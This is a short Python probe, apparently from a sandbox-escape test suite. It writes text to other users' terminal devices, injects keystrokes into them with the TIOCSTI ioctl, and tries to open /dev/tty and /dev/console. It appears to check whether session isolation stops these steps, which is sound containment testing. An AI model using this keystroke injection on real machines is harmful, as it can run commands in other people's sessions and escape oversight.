"""Write to the terminals of the people on this machine, and type for them.

kind: escape
stopped by: new session, a /dev/pts of its own
"""

import fcntl
import os
import termios

from attacker import TOLD, attempt, look


def write(path: str) -> int:
    descriptor = os.open(path, os.O_WRONLY | os.O_NOCTTY)
    return os.write(descriptor, TOLD["word"].encode())


def push(path: str) -> None:
    descriptor = os.open(path, os.O_RDWR | os.O_NOCTTY)
    for letter in TOLD["word"]:
        fcntl.ioctl(descriptor, termios.TIOCSTI, letter.encode())


path = TOLD["listeners"]["terminal"]
look(f"write to {path}", lambda: write(path))
look(f"type into {path}", lambda: push(path))
if TOLD["roots"] == ["/"]:
    for other in ("/dev/tty", "/dev/console"):
        attempt(f"open {other}", lambda other=other: os.close(os.open(other, os.O_WRONLY | os.O_NOCTTY)))
